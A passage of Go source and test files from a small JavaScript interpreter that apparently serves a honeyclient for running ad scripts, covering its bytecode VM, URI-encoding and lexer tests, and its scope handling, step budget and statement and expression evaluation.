				m.push(Str(it.keys[it.i]))
				it.i++
			}

		case opSetCompletion:
			m.completion = m.pop()

		default:
			return Value{}, ctlNone, fmt.Errorf("minijs: vm: unknown opcode %d", ins.op)
		}
	}
	return Value{}, ctlNone, nil
}

// runTry executes a try/catch/finally site with the exact control semantics
// of the tree-walker's TryStmt case: catch handles only ThrowError, finally
// always runs, a finally error replaces everything, and a finally control
// signal overrides (and swallows) the body's outcome.
func (in *Interp) runTry(td *tryDesc, ch *chunk, env *Env) (Value, ctl, error) {
	v, c, err := in.runChunk(td.body, env)
	var throwErr *ThrowError
	if err != nil && errors.As(err, &throwErr) && td.catch != nil {
		catchEnv := NewEnv(env)
		catchEnv.Define(ch.atoms[td.catchAtom], throwErr.Value)
		v, c, err = in.runChunk(td.catch, catchEnv)
	}
	if td.finally != nil {
		fv, fc, ferr := in.runChunk(td.finally, env)
		if ferr != nil {
			return Value{}, ctlNone, ferr
		}
		if fc != ctlNone {
			return fv, fc, nil
		}
	}
	return v, c, err
}

// Indices into unaryOps, fixed by its declaration order in compile.go.
const (
	unOpNeg = int32(iota)
	unOpPlus
	unOpNot
	unOpBitNot
	unOpTypeof
)
