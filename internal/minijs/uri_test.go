package minijs

// Regression tests for the URI-function semantics fix. The previous
// implementation delegated to url.QueryEscape/QueryUnescape, which apply
// form-encoding: '+' for space on encode, space for '+' on decode. Every
// entry here that mentions '+' or "%20" fails against that implementation.

import "testing"

func TestJSEscape(t *testing.T) {
	cases := []struct{ in, want string }{
		{"abc123", "abc123"},
		{"a b", "a%20b"},       // space is %20, never '+'
		{"@*_+-./", "@*_+-./"}, // legacy unreserved set kept
		{"a=b&c", "a%3Db%26c"},
		{"100%", "100%25"},
		{"é", "%E9"},    // U+00E9 < 256 → %XX form
		{"€", "%u20AC"}, // code unit ≥ 256 → %uXXXX
		{"漢", "%u6F22"},
		{"𝄞", "%uD834%uDD1E"}, // astral → surrogate pair
		{"", ""},
	}
	for _, tc := range cases {
		if got := jsEscape(tc.in); got != tc.want {
			t.Errorf("jsEscape(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestJSUnescape(t *testing.T) {
	cases := []struct{ in, want string }{
		{"a+b", "a+b"}, // QueryUnescape turned this into "a b"
		{"a%20b", "a b"},
		{"%41%42", "AB"},
		{"%u20AC", "€"},
		{"%u6f22", "漢"}, // lowercase hex accepted
		{"%uD834%uDD1E", "𝄞"},
		{"%", "%"}, // malformed escapes stay literal
		{"%2", "%2"},
		{"%zz", "%zz"},
		{"%u12", "%u12"},
		{"100%25", "100%"},
		{"", ""},
	}
	for _, tc := range cases {
		if got := jsUnescape(tc.in); got != tc.want {
			t.Errorf("jsUnescape(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestEscapeUnescapeRoundTrip(t *testing.T) {
	inputs := []string{
		"plain", "a b+c/d@e", "é€漢𝄞", "100% && more",
		"http://ads.example.com/click?u=a+b&v= c",
		string([]byte{0xff, 0xfe, 'a'}), // invalid UTF-8 → Latin-1 code units
	}
	for _, in := range inputs {
		if got := jsUnescape(jsEscape(in)); got != in {
			// The invalid-UTF-8 case round-trips by code unit, not by byte.
			if in == string([]byte{0xff, 0xfe, 'a'}) {
				if got != "ÿþa" {
					t.Errorf("unescape(escape(%q)) = %q", in, got)
				}
				continue
			}
			t.Errorf("unescape(escape(%q)) = %q", in, got)
		}
	}
}

func TestJSEncodeURIComponent(t *testing.T) {
	cases := []struct{ in, want string }{
		{"abc", "abc"},
		{" ", "%20"},                       // QueryEscape produced "+"
		{"-_.!~*'()", "-_.!~*'()"},         // mark set kept
		{"a/b?c&d=e", "a%2Fb%3Fc%26d%3De"}, // reserved chars encoded
		{"+", "%2B"},
		{"é", "%C3%A9"}, // UTF-8 bytes, not code units
		{"€", "%E2%82%AC"},
		{"𝄞", "%F0%9D%84%9E"},
		{"", ""},
	}
	for _, tc := range cases {
		if got := jsEncodeURIComponent(tc.in); got != tc.want {
			t.Errorf("jsEncodeURIComponent(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestJSDecodeURIComponent(t *testing.T) {
	cases := []struct{ in, want string }{
		{"a+b", "a+b"}, // '+' stays literal, unlike QueryUnescape
		{"a%20b", "a b"},
		{"%C3%A9", "é"},
		{"%E2%82%AC", "€"},
		{"%2B", "+"},
		{"%", "%"}, // malformed kept literal (lenient; real JS throws)
		{"%zz", "%zz"},
		{"", ""},
	}
	for _, tc := range cases {
		if got := jsDecodeURIComponent(tc.in); got != tc.want {
			t.Errorf("jsDecodeURIComponent(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// The builtin wiring: ad landing scripts build redirect URLs with these
// globals, so the interpreter-level result is what the honeyclient follows.
func TestURIBuiltins(t *testing.T) {
	expectStr(t, `encodeURIComponent(" ")`, "%20")
	expectStr(t, `encodeURIComponent("a+b c")`, "a%2Bb%20c")
	expectStr(t, `decodeURIComponent("a+b%20c")`, "a+b c")
	expectStr(t, `escape("a b+c")`, "a%20b+c")
	expectStr(t, `unescape("a+b%20c")`, "a+b c")
	expectStr(t, `unescape(escape("p a y+l/o.ad"))`, "p a y+l/o.ad")
	expectStr(t,
		`"http://t.example/r?u=" + encodeURIComponent("http://land.example/p?a=1&b= 2")`,
		"http://t.example/r?u=http%3A%2F%2Fland.example%2Fp%3Fa%3D1%26b%3D%202")
}
