package minijs

import (
	"testing"
	"testing/quick"
)

func lexKinds(t *testing.T, src string) []Token {
	t.Helper()
	toks, err := Lex(src)
	if err != nil {
		t.Fatalf("Lex(%q): %v", src, err)
	}
	return toks[:len(toks)-1] // drop EOF
}

func TestLexBasics(t *testing.T) {
	toks := lexKinds(t, `var x = 42;`)
	if len(toks) != 5 {
		t.Fatalf("got %d tokens: %v", len(toks), toks)
	}
	if toks[0].Kind != TokKeyword || toks[0].Text != "var" {
		t.Fatalf("tok0 = %+v", toks[0])
	}
	if toks[1].Kind != TokIdent || toks[1].Text != "x" {
		t.Fatalf("tok1 = %+v", toks[1])
	}
	if toks[3].Kind != TokNumber || toks[3].Num != 42 {
		t.Fatalf("tok3 = %+v", toks[3])
	}
}

func TestLexNumbers(t *testing.T) {
	cases := map[string]float64{
		"0":      0,
		"3.25":   3.25,
		"1e3":    1000,
		"2.5e-2": 0.025,
		"0xff":   255,
		"0X10":   16,
		".5":     0.5,
	}
	for src, want := range cases {
		toks := lexKinds(t, src)
		if len(toks) != 1 || toks[0].Kind != TokNumber {
			t.Fatalf("Lex(%q) = %v", src, toks)
		}
		if toks[0].Num != want {
			t.Errorf("Lex(%q).Num = %v, want %v", src, toks[0].Num, want)
		}
	}
}

func TestLexStrings(t *testing.T) {
	cases := map[string]string{
		`"hello"`:       "hello",
		`'single'`:      "single",
		`"a\nb"`:        "a\nb",
		`"tab\there"`:   "tab\there",
		`"\x41\x42"`:    "AB",
		"\"\\u0041\"":   "A",
		`'it\'s'`:       "it's",
		`"back\\slash"`: `back\slash`,
		`"\q"`:          "q", // unknown escape passes through
	}
	for src, want := range cases {
		toks := lexKinds(t, src)
		if len(toks) != 1 || toks[0].Kind != TokString {
			t.Fatalf("Lex(%q) = %v", src, toks)
		}
		if toks[0].Str != want {
			t.Errorf("Lex(%q).Str = %q, want %q", src, toks[0].Str, want)
		}
	}
}

func TestLexStringErrors(t *testing.T) {
	for _, src := range []string{`"unterminated`, `"newline
"`, `"\x4"`, `"\u00g1"`} {
		if _, err := Lex(src); err == nil {
			t.Errorf("Lex(%q) should fail", src)
		}
	}
}

func TestLexComments(t *testing.T) {
	toks := lexKinds(t, `
		// line comment
		a /* block
		comment */ b
	`)
	if len(toks) != 2 || toks[0].Text != "a" || toks[1].Text != "b" {
		t.Fatalf("tokens: %v", toks)
	}
	if _, err := Lex("/* unterminated"); err == nil {
		t.Error("unterminated block comment should fail")
	}
}

func TestLexMaximalMunch(t *testing.T) {
	toks := lexKinds(t, `a===b!==c>>>d++ --e <= >=`)
	var ops []string
	for _, tok := range toks {
		if tok.Kind == TokPunct {
			ops = append(ops, tok.Text)
		}
	}
	want := []string{"===", "!==", ">>>", "++", "--", "<=", ">="}
	if len(ops) != len(want) {
		t.Fatalf("ops = %v", ops)
	}
	for i := range want {
		if ops[i] != want[i] {
			t.Fatalf("ops[%d] = %q, want %q", i, ops[i], want[i])
		}
	}
}

func TestLexPositions(t *testing.T) {
	toks, err := Lex("a\n  b")
	if err != nil {
		t.Fatal(err)
	}
	if toks[0].Line != 1 || toks[0].Col != 1 {
		t.Fatalf("a at %d:%d", toks[0].Line, toks[0].Col)
	}
	if toks[1].Line != 2 || toks[1].Col != 3 {
		t.Fatalf("b at %d:%d", toks[1].Line, toks[1].Col)
	}
}

func TestLexUnexpectedChar(t *testing.T) {
	if _, err := Lex("a # b"); err == nil {
		t.Fatal("expected error for '#'")
	}
}

// Property: lexing never panics on arbitrary input and always terminates.
func TestLexFuzzProperty(t *testing.T) {
	f := func(raw []byte) bool {
		Lex(string(raw)) // may error, must not panic or hang
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1000}); err != nil {
		t.Fatal(err)
	}
}

func TestParseFloatHelper(t *testing.T) {
	for src, want := range map[string]float64{"1": 1, "1.5": 1.5, "2e2": 200, "5e-1": 0.5} {
		got, err := parseFloat(src)
		if err != nil || got != want {
			t.Errorf("parseFloat(%q) = %v, %v", src, got, err)
		}
	}
	if _, err := parseFloat("1.2.3"); err == nil {
		t.Error("parseFloat(1.2.3) should fail")
	}
}
