package minijs

import (
	"context"
	"errors"
	"fmt"
	"math"
	"strconv"
)

// ErrBudget is returned when a script exceeds its step budget. The crawler
// treats a budget hit as "script did not terminate" — exactly how a real
// honeyclient bounds adversarial ads.
var ErrBudget = errors.New("minijs: step budget exhausted")

// maxArrayLen bounds dense array growth and Array(n) allocation. The step
// budget bounds how many statements run, but a single a[1e9] = 1 would
// allocate gigabytes in one step; past this bound the interpreter throws a
// catchable RangeError instead.
const maxArrayLen = 1 << 20

// maxStringLen bounds string concatenation results. Repeated s = s + s
// doubles per iteration, so a handful of budget steps could otherwise
// allocate an arbitrarily large string (real engines throw RangeError
// "Invalid string length" the same way, just at a higher bound).
const maxStringLen = 1 << 24

// ThrowError wraps a value thrown by script code (throw statement or a
// runtime TypeError the interpreter raises).
type ThrowError struct {
	Value Value
	Line  int
}

func (e *ThrowError) Error() string {
	return fmt.Sprintf("minijs: uncaught exception at line %d: %s", e.Line, ToString(e.Value))
}

// throwStr builds a ThrowError carrying a string value (the interpreter's
// TypeError/RangeError/ReferenceError payloads).
func throwStr(msg string, line int) *ThrowError {
	return &ThrowError{Value: Str(msg), Line: line}
}

// envInline is the number of bindings an Env stores inline before spilling
// to a map. Call scopes (this + a few params) and block scopes almost always
// fit, which makes scope creation a single allocation with no map.
const envInline = 6

// Env is a lexical scope: a small inline set of bindings with a map
// overflow, plus a pointer to the enclosing scope.
type Env struct {
	parent *Env
	n      int8
	// frozen marks the shared builtins scope every interpreter chains to.
	// Assignments never land in a frozen scope (they shadow in the nearest
	// mutable global instead), so concurrent interpreters can read it safely.
	frozen bool
	names  [envInline]string
	vals   [envInline]Value
	more   map[string]Value
}

// NewEnv returns a scope nested in parent (parent may be nil for globals).
func NewEnv(parent *Env) *Env {
	return &Env{parent: parent}
}

func (e *Env) lookupLocal(name string) (Value, bool) {
	for i := int8(0); i < e.n; i++ {
		if e.names[i] == name {
			return e.vals[i], true
		}
	}
	if e.more != nil {
		v, ok := e.more[name]
		return v, ok
	}
	return Value{}, false
}

// Lookup finds name in this scope chain.
func (e *Env) Lookup(name string) (Value, bool) {
	for s := e; s != nil; s = s.parent {
		if v, ok := s.lookupLocal(name); ok {
			return v, true
		}
	}
	return Undefined(), false
}

// Define creates or overwrites name in this exact scope.
func (e *Env) Define(name string, v Value) {
	for i := int8(0); i < e.n; i++ {
		if e.names[i] == name {
			e.vals[i] = v
			return
		}
	}
	if e.more != nil {
		e.more[name] = v
		return
	}
	if int(e.n) < envInline {
		e.names[e.n] = name
		e.vals[e.n] = v
		e.n++
		return
	}
	// A scope that spills past the inline slots is almost always the global
	// scope (builtins plus host bindings), so size the map for that case.
	e.more = make(map[string]Value, 16)
	e.more[name] = v
}

func (e *Env) assignLocal(name string, v Value) bool {
	for i := int8(0); i < e.n; i++ {
		if e.names[i] == name {
			e.vals[i] = v
			return true
		}
	}
	if e.more != nil {
		if _, ok := e.more[name]; ok {
			e.more[name] = v
			return true
		}
	}
	return false
}

// Assign sets name in the nearest scope that defines it; if none does, the
// value lands in the global (outermost) scope — JavaScript's implicit-global
// behaviour, which obfuscated ad scripts rely on.
func (e *Env) Assign(name string, v Value) {
	var outer *Env
	for s := e; s != nil; s = s.parent {
		if s.frozen {
			// A binding in the frozen builtins scope (e.g. `Array = shim`)
			// is shadowed in the interpreter's own global instead of
			// mutating state shared across interpreters.
			continue
		}
		if s.assignLocal(name, v) {
			return
		}
		outer = s
	}
	outer.Define(name, v)
}

// Each calls f for every binding in this exact scope (no parent traversal),
// in unspecified order.
func (e *Env) Each(f func(name string, v Value)) {
	for i := int8(0); i < e.n; i++ {
		f(e.names[i], e.vals[i])
	}
	for k, v := range e.more {
		f(k, v)
	}
}

// Interp executes parsed programs. One Interp corresponds to one page's
// script execution context in the emulated browser.
type Interp struct {
	// Global is the global scope. Host bindings (document, window, ...) are
	// Defined here by the embedder before Run.
	Global *Env
	// Budget is the remaining statement/expression step allowance.
	Budget int
	// MaxDepth bounds recursion (call depth).
	MaxDepth int
	depth    int
	// UseVM selects the bytecode VM over the tree-walker. Programs without
	// compiled code (and functions created by a tree-walk) still run on the
	// tree-walker; the two engines agree exactly (see FuzzCompileEval).
	UseVM bool
	// Host is an opaque embedder slot. Shared frozen host natives (see
	// NewSharedNative) reach per-document state through it instead of
	// capturing that state in per-interpreter closures.
	Host any
	// vm is the active pooled machine while a VM execution is in flight.
	vm *machine
	// objArena is the current chunk of the interp-owned object arena (see
	// Interp.alloc in value.go).
	objArena []Object
}

// DefaultBudget is the per-execution step allowance. Ads in the simulation
// run well under this; runaway loops hit it quickly.
const DefaultBudget = 2_000_000

// New returns an interpreter with a fresh global scope, the default budget,
// and standard builtins (Math, String, parseInt, ...) installed.
func New() *Interp {
	in := &Interp{Global: NewEnv(sharedGlobals), Budget: DefaultBudget, MaxDepth: 200, UseVM: true}
	installBuiltins(in)
	return in
}

// Run parses and executes src in the global scope.
func (in *Interp) Run(src string) (Value, error) {
	prog, err := Parse(src)
	if err != nil {
		return Undefined(), err
	}
	return in.RunProgram(prog)
}

// RunProgram executes an already-parsed program in the global scope.
func (in *Interp) RunProgram(prog *Program) (Value, error) {
	if in.UseVM {
		if prog.code == nil {
			// Compile on demand (eval, embedders without a code cache). A
			// compile failure falls back to the tree-walker.
			_ = CompileProgram(context.Background(), prog)
		}
		if prog.code != nil {
			return in.runProgramVM(prog)
		}
	}
	last := Undefined()
	// Hoist function declarations, as JS does.
	for _, s := range prog.Body {
		if fd, ok := s.(*FuncDecl); ok {
			in.Global.Define(fd.Name, in.makeFunction(fd.Fn, in.Global).Value())
		}
	}
	for _, s := range prog.Body {
		v, ctl, err := in.execStmt(s, in.Global)
		if err != nil {
			return Undefined(), err
		}
		if ctl != ctlNone {
			// return/break/continue at top level: stop quietly.
			return last, nil
		}
		if v.kind != KindEmpty {
			last = v
		}
	}
	return last, nil
}

// CallFunction invokes a script function value from Go, e.g. the browser
// firing a setTimeout callback or an onclick handler.
func (in *Interp) CallFunction(fn Value, this Value, args []Value) (Value, error) {
	obj := fn.Obj()
	if obj == nil || !obj.IsFunction() {
		return Undefined(), &ThrowError{Value: Str("TypeError: not a function")}
	}
	return in.callObject(obj, this, args, 0)
}

// control-flow signals threaded through statement execution.
type ctl int

const (
	ctlNone ctl = iota
	ctlReturn
	ctlBreak
	ctlContinue
)

func (in *Interp) step(line int) error {
	in.Budget--
	if in.Budget < 0 {
		return ErrBudget
	}
	_ = line
	return nil
}

// stmtDeclares reports whether s, executed directly in a scope (not inside
// its own block), would Define a binding there.
func stmtDeclares(s Stmt) bool {
	switch s.(type) {
	case *VarDecl, *FuncDecl:
		return true
	}
	return false
}

// blockNeedsScope reports whether a block's direct statements declare
// bindings. Blocks that declare nothing share the enclosing scope: no
// binding can land in them (Assign never creates intermediate-scope
// bindings), so eliding the Env is invisible to scripts. The compiler uses
// the same predicate, keeping the two engines in lockstep.
func blockNeedsScope(body []Stmt) bool {
	for _, s := range body {
		if stmtDeclares(s) {
			return true
		}
	}
	return false
}

// forNeedsScope mirrors blockNeedsScope for a for statement's loop scope.
func forNeedsScope(st *ForStmt) bool {
	if st.Init != nil && stmtDeclares(st.Init) {
		return true
	}
	return stmtDeclares(st.Body)
}

// forInNeedsScope mirrors blockNeedsScope for a for-in loop scope.
func forInNeedsScope(st *ForInStmt) bool {
	return st.Decl || stmtDeclares(st.Body)
}

// execStmt executes a statement. The Value return is the statement's
// completion value (used for return statements and top-level expressions);
// the zero Value means "no completion value".
func (in *Interp) execStmt(s Stmt, env *Env) (Value, ctl, error) {
	if err := in.step(s.nodeLine()); err != nil {
		return Value{}, ctlNone, err
	}
	switch st := s.(type) {
	case *EmptyStmt:
		return Value{}, ctlNone, nil

	case *VarDecl:
		for i, name := range st.Names {
			v := Undefined()
			if st.Inits[i] != nil {
				var err error
				v, err = in.eval(st.Inits[i], env)
				if err != nil {
					return Value{}, ctlNone, err
				}
			}
			env.Define(name, v)
		}
		return Value{}, ctlNone, nil

	case *FuncDecl:
		env.Define(st.Name, in.makeFunction(st.Fn, env).Value())
		return Value{}, ctlNone, nil

	case *ExprStmt:
		v, err := in.eval(st.X, env)
		return v, ctlNone, err

	case *BlockStmt:
		return in.execBlock(st, env)

	case *IfStmt:
		cond, err := in.eval(st.Cond, env)
		if err != nil {
			return Value{}, ctlNone, err
		}
		if Truthy(cond) {
			return in.execStmt(st.Then, env)
		}
		if st.Else != nil {
			return in.execStmt(st.Else, env)
		}
		return Value{}, ctlNone, nil

	case *WhileStmt:
		for {
			cond, err := in.eval(st.Cond, env)
			if err != nil {
				return Value{}, ctlNone, err
			}
			if !Truthy(cond) {
				return Value{}, ctlNone, nil
			}
			v, c, err := in.execStmt(st.Body, env)
			if err != nil {
				return Value{}, ctlNone, err
			}
			switch c {
			case ctlBreak:
				return Value{}, ctlNone, nil
			case ctlReturn:
				return v, ctlReturn, nil
			}
		}

	case *DoWhileStmt:
		for {
			v, c, err := in.execStmt(st.Body, env)
			if err != nil {
				return Value{}, ctlNone, err
			}
			switch c {
			case ctlBreak:
				return Value{}, ctlNone, nil
			case ctlReturn:
				return v, ctlReturn, nil
			}
			cond, err := in.eval(st.Cond, env)
			if err != nil {
				return Value{}, ctlNone, err
			}
			if !Truthy(cond) {
				return Value{}, ctlNone, nil
			}
		}

	case *ForStmt:
		loopEnv := env
		if forNeedsScope(st) {
			loopEnv = NewEnv(env)
		}
		if st.Init != nil {
			if _, _, err := in.execStmt(st.Init, loopEnv); err != nil {
				return Value{}, ctlNone, err
			}
		}
		for {
			if st.Cond != nil {
				cond, err := in.eval(st.Cond, loopEnv)
				if err != nil {
					return Value{}, ctlNone, err
				}
				if !Truthy(cond) {
					return Value{}, ctlNone, nil
				}
			}
			v, c, err := in.execStmt(st.Body, loopEnv)
			if err != nil {
				return Value{}, ctlNone, err
			}
			if c == ctlBreak {
				return Value{}, ctlNone, nil
			}
			if c == ctlReturn {
				return v, ctlReturn, nil
			}
			if st.Post != nil {
				if _, err := in.eval(st.Post, loopEnv); err != nil {
					return Value{}, ctlNone, err
				}
			}
		}

	case *ForInStmt:
		objV, err := in.eval(st.Obj, env)
		if err != nil {
			return Value{}, ctlNone, err
		}
		obj := objV.Obj()
		if obj == nil {
			return Value{}, ctlNone, nil // for-in over non-object iterates nothing
		}
		loopEnv := env
		if forInNeedsScope(st) {
			loopEnv = NewEnv(env)
		}
		if st.Decl {
			loopEnv.Define(st.VarName, Undefined())
		}
		for _, key := range obj.Keys() {
			if st.Decl {
				loopEnv.Define(st.VarName, Str(key))
			} else {
				loopEnv.Assign(st.VarName, Str(key))
			}
			v, c, err := in.execStmt(st.Body, loopEnv)
			if err != nil {
				return Value{}, ctlNone, err
			}
			if c == ctlBreak {
				return Value{}, ctlNone, nil
			}
			if c == ctlReturn {
				return v, ctlReturn, nil
			}
		}
		return Value{}, ctlNone, nil

	case *ReturnStmt:
		v := Undefined()
		if st.Value != nil {
			var err error
			v, err = in.eval(st.Value, env)
			if err != nil {
				return Value{}, ctlNone, err
			}
		}
		return v, ctlReturn, nil

	case *BreakStmt:
		return Value{}, ctlBreak, nil

	case *ContinueStmt:
		return Value{}, ctlContinue, nil

	case *ThrowStmt:
		v, err := in.eval(st.Value, env)
		if err != nil {
			return Value{}, ctlNone, err
		}
		return Value{}, ctlNone, &ThrowError{Value: v, Line: st.nodeLine()}

	case *SwitchStmt:
		tag, err := in.eval(st.Tag, env)
		if err != nil {
			return Value{}, ctlNone, err
		}
		// Find the matching clause (or default), then execute from there,
		// falling through until a break.
		start := -1
		defaultIdx := -1
		for i, c := range st.Cases {
			if c.Test == nil {
				defaultIdx = i
				continue
			}
			tv, err := in.eval(c.Test, env)
			if err != nil {
				return Value{}, ctlNone, err
			}
			if StrictEquals(tag, tv) {
				start = i
				break
			}
		}
		if start < 0 {
			start = defaultIdx
		}
		if start < 0 {
			return Value{}, ctlNone, nil
		}
		switchEnv := NewEnv(env)
		for i := start; i < len(st.Cases); i++ {
			for _, s2 := range st.Cases[i].Body {
				v, c, err := in.execStmt(s2, switchEnv)
				if err != nil {
					return Value{}, ctlNone, err
				}
				switch c {
				case ctlBreak:
					return Value{}, ctlNone, nil
				case ctlReturn, ctlContinue:
					return v, c, nil
				}
			}
		}
		return Value{}, ctlNone, nil

	case *TryStmt:
		v, c, err := in.execBlock(st.Body, env)
		var throwErr *ThrowError
		if err != nil && errors.As(err, &throwErr) && st.Catch != nil {
			catchEnv := NewEnv(env)
			catchEnv.Define(st.CatchName, throwErr.Value)
			v, c, err = in.execBlock(st.Catch, catchEnv)
		}
		if st.Finally != nil {
			fv, fc, ferr := in.execBlock(st.Finally, env)
			if ferr != nil {
				return Value{}, ctlNone, ferr
			}
			if fc != ctlNone {
				return fv, fc, nil
			}
		}
		return v, c, err
	}
	return Value{}, ctlNone, fmt.Errorf("minijs: unknown statement %T", s)
}

func (in *Interp) execBlock(b *BlockStmt, env *Env) (Value, ctl, error) {
	blockEnv := env
	if blockNeedsScope(b.Body) {
		blockEnv = NewEnv(env)
		// Hoist function declarations within the block.
		for _, s := range b.Body {
			if fd, ok := s.(*FuncDecl); ok {
				blockEnv.Define(fd.Name, in.makeFunction(fd.Fn, blockEnv).Value())
			}
		}
	}
	for _, s := range b.Body {
		v, c, err := in.execStmt(s, blockEnv)
		if err != nil {
			return Value{}, ctlNone, err
		}
		if c != ctlNone {
			return v, c, nil
		}
	}
	return Value{}, ctlNone, nil
}

func (in *Interp) makeFunction(fn *FuncLit, env *Env) *Object {
	return &Object{Fn: fn, Env: env, Name: fn.Name}
}

// eval evaluates an expression.
func (in *Interp) eval(e Expr, env *Env) (Value, error) {
	if err := in.step(e.nodeLine()); err != nil {
		return Value{}, err
	}
	switch x := e.(type) {
	case *NumberLit:
		return Num(x.Value), nil
	case *StringLit:
		return Str(x.Value), nil
	case *BoolLit:
		return Bool(x.Value), nil
	case *NullLit:
		return Null(), nil
	case *UndefinedLit:
		return Undefined(), nil
	case *ThisExpr:
		if v, ok := env.Lookup("this"); ok {
			return v, nil
		}
		return Undefined(), nil
	case *Ident:
		if v, ok := env.Lookup(x.Name); ok {
			return v, nil
		}
		return Value{}, throwStr("ReferenceError: "+x.Name+" is not defined", x.nodeLine())

	case *ArrayLit:
		arr := in.NewArray()
		if len(x.Elems) > 0 {
			arr.Elems = make([]Value, 0, len(x.Elems))
		}
		for _, el := range x.Elems {
			v, err := in.eval(el, env)
			if err != nil {
				return Value{}, err
			}
			arr.Elems = append(arr.Elems, v)
		}
		return arr.Value(), nil

	case *ObjectLit:
		obj := in.NewObject()
		for i, k := range x.Keys {
			v, err := in.eval(x.Values[i], env)
			if err != nil {
				return Value{}, err
			}
			obj.Props[k] = v
		}
		return obj.Value(), nil

	case *FuncLit:
		return in.makeFunction(x, env).Value(), nil

	case *RegexLit:
		return newRegexObject(x).Value(), nil

	case *UnaryExpr:
		return in.evalUnary(x, env)

	case *UpdateExpr:
		return in.evalUpdate(x, env)

	case *BinaryExpr:
		return in.evalBinary(x, env)

	case *LogicalExpr:
		left, err := in.eval(x.X, env)
		if err != nil {
			return Value{}, err
		}
		if x.Op == "&&" {
			if !Truthy(left) {
				return left, nil
			}
			return in.eval(x.Y, env)
		}
		if Truthy(left) {
			return left, nil
		}
		return in.eval(x.Y, env)

	case *CondExpr:
		cond, err := in.eval(x.Cond, env)
		if err != nil {
			return Value{}, err
		}
		if Truthy(cond) {
			return in.eval(x.Then, env)
		}
		return in.eval(x.Else, env)

	case *AssignExpr:
		return in.evalAssign(x, env)

	case *CallExpr:
		return in.evalCall(x, env)

	case *NewExpr:
		return in.evalNew(x, env)

	case *MemberExpr:
		obj, err := in.eval(x.Obj, env)
		if err != nil {
			return Value{}, err
		}
		return in.getMember(obj, x.Name, x.nodeLine())

	case *IndexExpr:
		obj, err := in.eval(x.Obj, env)
		if err != nil {
			return Value{}, err
		}
		idx, err := in.eval(x.Index, env)
		if err != nil {
			return Value{}, err
		}
		return in.getIndex(obj, idx, x.nodeLine())
	}
	return Value{}, fmt.Errorf("minijs: unknown expression %T", e)
}

func (in *Interp) evalUnary(x *UnaryExpr, env *Env) (Value, error) {
	if x.Op == "typeof" {
		// typeof tolerates undefined identifiers.
		if id, ok := x.X.(*Ident); ok {
			if v, found := env.Lookup(id.Name); found {
				return Str(TypeOf(v)), nil
			}
			return Str("undefined"), nil
		}
	}
	if x.Op == "delete" {
		if m, ok := x.X.(*MemberExpr); ok {
			objV, err := in.eval(m.Obj, env)
			if err != nil {
				return Value{}, err
			}
			if obj := objV.Obj(); obj != nil {
				obj.Delete(m.Name)
			}
			return Bool(true), nil
		}
		return Bool(true), nil
	}
	v, err := in.eval(x.X, env)
	if err != nil {
		return Value{}, err
	}
	switch x.Op {
	case "-":
		return Num(-ToNumber(v)), nil
	case "+":
		return Num(ToNumber(v)), nil
	case "!":
		return Bool(!Truthy(v)), nil
	case "~":
		return Num(float64(^toInt32(v))), nil
	case "typeof":
		return Str(TypeOf(v)), nil
	}
	return Value{}, fmt.Errorf("minijs: unknown unary op %q", x.Op)
}

func (in *Interp) evalUpdate(x *UpdateExpr, env *Env) (Value, error) {
	old, err := in.eval(x.X, env)
	if err != nil {
		return Value{}, err
	}
	n := ToNumber(old)
	var next float64
	if x.Op == "++" {
		next = n + 1
	} else {
		next = n - 1
	}
	if err := in.assignTo(x.X, Num(next), env); err != nil {
		return Value{}, err
	}
	if x.Prefix {
		return Num(next), nil
	}
	return Num(n), nil
}

func (in *Interp) evalBinary(x *BinaryExpr, env *Env) (Value, error) {
	a, err := in.eval(x.X, env)
	if err != nil {
		return Value{}, err
	}
	b, err := in.eval(x.Y, env)
	if err != nil {
		return Value{}, err
	}
	return applyBinary(x.Op, a, b, x.nodeLine())
}

func applyBinary(op string, a, b Value, line int) (Value, error) {
	switch op {
	case "+":
		// Numeric fast path: both sides already numbers.
		if a.kind == KindNumber && b.kind == KindNumber {
			return Num(a.num + b.num), nil
		}
		// String concatenation if either side is a string or a non-array
		// object (which stringifies).
		if isStringy(a) || isStringy(b) {
			sa, sb := ToString(a), ToString(b)
			if len(sa)+len(sb) > maxStringLen {
				return Value{}, throwStr("RangeError: invalid string length", line)
			}
			return Str(sa + sb), nil
		}
		return Num(ToNumber(a) + ToNumber(b)), nil
	case "-":
		return Num(ToNumber(a) - ToNumber(b)), nil
	case "*":
		return Num(ToNumber(a) * ToNumber(b)), nil
	case "/":
		return Num(ToNumber(a) / ToNumber(b)), nil
	case "%":
		return Num(math.Mod(ToNumber(a), ToNumber(b))), nil
	case "==":
		return Bool(LooseEquals(a, b)), nil
	case "!=":
		return Bool(!LooseEquals(a, b)), nil
	case "===":
		return Bool(StrictEquals(a, b)), nil
	case "!==":
		return Bool(!StrictEquals(a, b)), nil
	case "<", ">", "<=", ">=":
		return Bool(compare(op, a, b)), nil
	case "&":
		return Num(float64(toInt32(a) & toInt32(b))), nil
	case "|":
		return Num(float64(toInt32(a) | toInt32(b))), nil
	case "^":
		return Num(float64(toInt32(a) ^ toInt32(b))), nil
	case "<<":
		return Num(float64(toInt32(a) << (toUint32(b) & 31))), nil
	case ">>":
		return Num(float64(toInt32(a) >> (toUint32(b) & 31))), nil
	case ">>>":
		return Num(float64(toUint32(a) >> (toUint32(b) & 31))), nil
	case "in":
		obj := b.Obj()
		if obj == nil {
			return Value{}, throwStr("TypeError: 'in' on non-object", line)
		}
		_, found := obj.Get(ToString(a))
		return Bool(found), nil
	case "instanceof":
		// The dialect has no prototype chains; instanceof is a pragmatic
		// check: array instanceof Array, function instanceof Function.
		obj := a.Obj()
		if obj == nil {
			return Bool(false), nil
		}
		name := ""
		if fb := b.Obj(); fb != nil {
			name = fb.Name
		}
		switch name {
		case "Array":
			return Bool(obj.IsArray), nil
		case "Function":
			return Bool(obj.IsFunction()), nil
		}
		return Bool(false), nil
	}
	return Value{}, fmt.Errorf("minijs: unknown binary op %q", op)
}

func isStringy(v Value) bool {
	switch v.kind {
	case KindString:
		return true
	case KindObject:
		return !v.obj.IsFunction() // objects and arrays concatenate as strings with +
	}
	return false
}

func compare(op string, a, b Value) bool {
	if a.kind == KindString && b.kind == KindString {
		as, bs := a.str, b.str
		switch op {
		case "<":
			return as < bs
		case ">":
			return as > bs
		case "<=":
			return as <= bs
		case ">=":
